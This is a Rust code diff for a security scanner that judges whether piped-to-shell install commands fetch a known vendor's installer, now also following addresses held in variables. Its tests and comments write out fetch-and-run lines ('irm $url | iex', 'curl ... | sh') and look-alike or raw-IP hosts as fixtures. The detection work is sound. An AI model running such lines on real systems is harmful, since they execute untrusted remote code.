@@ -10,7 +10,10 @@
 //! is on the address alone, exactly: an `http://` address, a look-alike host
 //! (`bun.sh.evil.io`, `bun-sh.io`), a path under a shared host that is not
 //! the vendor's own repository, or a second address on the same line keeps
-//! the rule's own severity.
+//! the rule's own severity. A line that runs an address held in a variable
+//! (`irm $url | iex`) counts when every assignment of that variable in the
+//! file is that vendor's installer and nothing else writes it
+//! ([`vendor_of_variables`]).
 
 use std::sync::LazyLock;
 
@@ -45,6 +48,133 @@ pub(super) fn vendor_of_line(line: &str) -> Option<&'static str> {
             return None;
         }
         vendor = Some(v);
+    }
+    vendor
+}
+
+/// The vendor whose installer every address held by the variables of
+/// `line` is, when `line` names no address itself (`irm $url | iex`,
+/// `curl -fsSL "$INSTALLER" | sh`): each `$name` of the line must be
+/// assigned in `whole` (the file) only by statements whose every string is
+/// that vendor's installer over https (`$url = if ($v) { "https://astral.sh/
+/// uv/$v/install.ps1" } else { "https://astral.sh/uv/install.ps1" }`), with
+/// no other value or variable on their right-hand side, and the name must
+/// be written nowhere else (`read url`, `Set-Variable url`, a parameter
+/// `[string]$url = …` the caller can override, a loop variable).
+pub(super) fn vendor_of_variables(line: &str, whole: &str) -> Option<&'static str> {
+    static VAR: LazyLock<regex::Regex> =
+        LazyLock::new(|| regex::Regex::new(r"\$\{?([A-Za-z_][A-Za-z0-9_]*)\}?").unwrap());
+    if !addresses(line).is_empty() {
+        return None;
+    }
+    let mut vendor = None;
+    let mut any = false;
+    for c in VAR.captures_iter(line) {
+        let name = c.get(1)?.as_str();
+        if name.eq_ignore_ascii_case("env") || name.eq_ignore_ascii_case("true") || name.eq_ignore_ascii_case("null") {
+            continue;
+        }
+        let v = vendor_assigned(name, whole)?;
+        if vendor.is_some_and(|known| known != v) {
+            return None;
+        }
+        vendor = Some(v);
+        any = true;
+    }
+    any.then_some(vendor).flatten()
+}
+
+/// The vendor every assignment of `name` in `whole` gives it (see
+/// [`vendor_of_variables`]).
+fn vendor_assigned(name: &str, whole: &str) -> Option<&'static str> {
+    // Names are compared without case: PowerShell's are case-insensitive.
+    let lower = whole.to_ascii_lowercase();
+    let n = name.to_ascii_lowercase();
+    let word = |b: u8| b.is_ascii_alphanumeric() || b == b'_';
+    let mut vendor = None;
+    let mut from = 0;
+    while let Some(i) = lower[from..].find(&n).map(|i| i + from) {
+        from = i + n.len();
+        let bytes = lower.as_bytes();
+        if i > 0 && word(bytes[i - 1]) || bytes.get(from).is_some_and(|&b| word(b)) {
+            continue;
+        }
+        let before = &lower[..i];
+        let dollar = before.ends_with('$') || before.ends_with("${");
+        let after = lower[from..].trim_start_matches('}');
+        let rest = after.trim_start();
+        let assigns =
+            rest.starts_with('=') && !rest.starts_with("==") || rest.starts_with("+=") || rest.starts_with(":=");
+        if dollar && !assigns {
+            // A read, unless it is a loop's variable or handed by reference.
+            if rest.starts_with("in ") || before.trim_end_matches(['$', '{']).ends_with("[ref]") {
+                return None;
+            }
+            continue;
+        }
+        if !assigns || rest.starts_with("+=") || rest.starts_with(":=") {
+            // Written some other way (`read url`, `Set-Variable url`).
+            return None;
+        }
+        // An assignment: a statement of its own, not a typed parameter.
+        let stmt_start = before.trim_end_matches(['$', '{']);
+        let lead = stmt_start.trim_end_matches([' ', '\t']);
+        let lead = lead.strip_suffix("export").or_else(|| lead.strip_suffix("local")).unwrap_or(lead);
+        let lead = lead.trim_end_matches([' ', '\t']);
+        if !(lead.is_empty() || lead.ends_with(['\n', ';', '{', '}'])) {
+            return None;
+        }
+        // The value: after the `=`, to the end of the line.
+        let value_start = lower.len() - rest.len() + 1;
+        let value_end = lower[value_start..].find('\n').map_or(lower.len(), |e| value_start + e);
+        let v = vendor_of_value(&whole[value_start..value_end])?;
+        if vendor.is_some_and(|known| known != v) {
+            return None;
+        }
+        vendor = Some(v);
+    }
+    vendor
+}
+
+/// The vendor of an assigned value whose every quoted string is one of
+/// its installers and which holds no variable outside them but in a
+/// condition (`if ($v) { "https://…" } else { "https://…" }`).
+fn vendor_of_value(value: &str) -> Option<&'static str> {
+    let value = value.split(" #").next().unwrap_or(value).trim();
+    let mut vendor = None;
+    let mut outside = String::new();
+    let mut rest = value;
+    while let Some(q) = rest.find(['"', '\'']) {
+        outside.push_str(&rest[..q]);
+        let quote = &rest[q..q + 1];
+        let Some(end) = rest[q + 1..].find(quote) else { return None };
+        let lit = &rest[q + 1..q + 1 + end];
+        let v = vendor_of(lit.trim())?;
+        if vendor.is_some_and(|known| known != v) {
+            return None;
+        }
+        vendor = Some(v);
+        rest = &rest[q + 1 + end + 1..];
+    }
+    outside.push_str(rest);
+    if vendor.is_none() && outside.trim().starts_with("https://") {
+        // A bare address (`URL=https://sh.rustup.rs`).
+        vendor = vendor_of(outside.trim());
+        outside.clear();
+    }
+    // Conditions in brackets are read, never the value.
+    let mut depth = 0usize;
+    let mut kept = String::new();
+    for ch in outside.chars() {
+        match ch {
+            '(' => depth += 1,
+            ')' => depth = depth.saturating_sub(1),
+            _ if depth == 0 => kept.push(ch),
+            _ => {}
+        }
+    }
+    if kept.contains('$') || kept.contains('`') {
+        return None;
     }
     vendor
 }
@@ -161,6 +291,44 @@ mod tests {
         ] {
             assert_eq!(vendor_of_line(line), None, "{line}");
         }
+    }
+
+    #[test]
+    fn a_variable_assigned_only_a_vendors_installer_names_the_vendor() {
+        let ps = "param([string]$Version = \"\")\n\
+                  $url = if ($Version) { \"https://astral.sh/uv/$Version/install.ps1\" } else { \"https://astral.sh/uv/install.ps1\" }\n\
+                  Write-Host \"Installing uv from $url\"\n\
+                  powershell -ExecutionPolicy ByPass -c \"irm $url | iex\"\n";
+        assert_eq!(
+            vendor_of_variables("powershell -ExecutionPolicy ByPass -c \"irm $url | iex\"", ps),
+            Some("Astral (uv)")
+        );
+        let sh = "#!/bin/sh\nINSTALLER=\"https://sh.rustup.rs\"\ncurl -sSf \"$INSTALLER\" | sh -s -- -y\n";
+        assert_eq!(vendor_of_variables("curl -sSf \"$INSTALLER\" | sh -s -- -y", sh), Some("Rust (rustup)"));
+        let bare = "export U=https://bun.sh/install\ncurl -fsSL $U | bash\n";
+        assert_eq!(vendor_of_variables("curl -fsSL $U | bash", bare), Some("Bun"));
+    }
+
+    #[test]
+    fn a_variable_that_may_hold_anything_else_names_no_vendor() {
+        let line = "irm $url | iex";
+        for whole in [
+            // Never assigned, assigned twice to different hosts, built, overridable, read, looped.
+            "irm $url | iex\n",
+            "$url = \"https://astral.sh/uv/install.ps1\"\n$url = \"https://198.51.100.7/x.ps1\"\nirm $url | iex\n",
+            "$url = \"https://astral.sh/uv/install.ps1\"\n$url += \"?x=1\"\nirm $url | iex\n",
+            "$url = $base + \"/install.ps1\"\nirm $url | iex\n",
+            "param([string]$url = \"https://astral.sh/uv/install.ps1\")\nirm $url | iex\n",
+            "$url = \"https://astral.sh/uv/install.ps1\"\nSet-Variable -Name url -Value $evil\nirm $url | iex\n",
+            "foreach ($url in $list) { irm $url | iex }\n$url = \"https://astral.sh/uv/install.ps1\"\n",
+            "$url = if ($x) { $custom } else { \"https://astral.sh/uv/install.ps1\" }\nirm $url | iex\n",
+            "$url = \"http://astral.sh/uv/install.ps1\"\nirm $url | iex\n",
+            "$url = \"${1:-https://astral.sh/uv/install.ps1}\"\nirm $url | iex\n",
+        ] {
+            assert_eq!(vendor_of_variables(line, whole), None, "{whole}");
+        }
+        // A line that names an address is read as it is.
+        assert_eq!(vendor_of_variables("curl https://x.example/$v | sh", "v=1\n"), None);
     }
 
     #[test]
